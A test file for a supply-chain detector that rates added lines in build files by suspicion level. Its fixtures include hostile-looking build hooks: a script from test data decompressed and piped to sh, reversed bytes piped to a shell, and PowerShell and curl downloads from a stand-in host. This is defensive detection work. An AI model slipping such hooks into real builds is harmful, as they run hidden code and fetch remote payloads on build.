import detector from "../../../../src/engine/detectors/build/native-build-hook.ts";
import { aCommit, aFile } from "../../../../src/engine/model/examples.ts";
import { strengthsOf } from "../run-detector.ts";

const SH = ["| ", "sh"].join("");
const change = (path: string, added: string) => aCommit({ files: [aFile({ path, added, at: 5 })] });

test.each([
  ["a script out of test data", "m4/a.m4", `sed x tests/files/a.xz | xz -d ${SH}`, ["decisive"]],
  ["a pipe of filters evaluated", "configure.ac", 'eval "$(sed x a | tr a b | cut -c1-9)"', ["strong"]],
  ["bytes shuffled into a shell", "Makefile", `	cat a | rev ${SH}`, ["strong"]],
  ["a program in a project file", "a.targets", '<UsingTask TaskFactory="CodeTaskFactory"/>', ["strong"]],
  ["a project file that downloads", "a.csproj", '<Exec Command="powershell iwr https://a.example" />', ["medium"]],
  [
    "a build tool from elsewhere",
    "gradle/wrapper/gradle-wrapper.properties",
    "distributionUrl=https\\://a.example/g.zip",
    ["medium"],
  ],
  [
    "a build tool from its maker",
    "gradle/wrapper/gradle-wrapper.properties",
    "distributionUrl=https\\://services.gradle.org/g.zip",
    [],
  ],
  ["a project file that copies", "a.csproj", '<Exec Command="cp a b" />', []],
  ["a crate's build that starts a shell", "build.rs", 'Command::new("sh").arg("-c")', ["medium"]],
  ["a crate's build that asks pkg-config", "build.rs", 'Command::new("pkg-config")', []],
  ["gyp runs a script quietly", "binding.gyp", '"<!(node a.js > /dev/null && echo x.c)"', ["strong"]],
  ["gyp runs a script", "binding.gyp", '"<!(node a.js)"', ["medium"]],
  ["gyp asks for headers", "binding.gyp", `"<!(node -p \\"require('nan')\\")"`, []],
  ["gyp fetches", "binding.gyp", '"<!(curl https://a.example/x)"', ["decisive"]],
  ["a test's build", "test/Makefile", `	cat a | rev ${SH}`, []],
] as const)("%s", (_, path, added, expected) => {
  expect(strengthsOf(detector, change(path, added))).toEqual(expected);
});
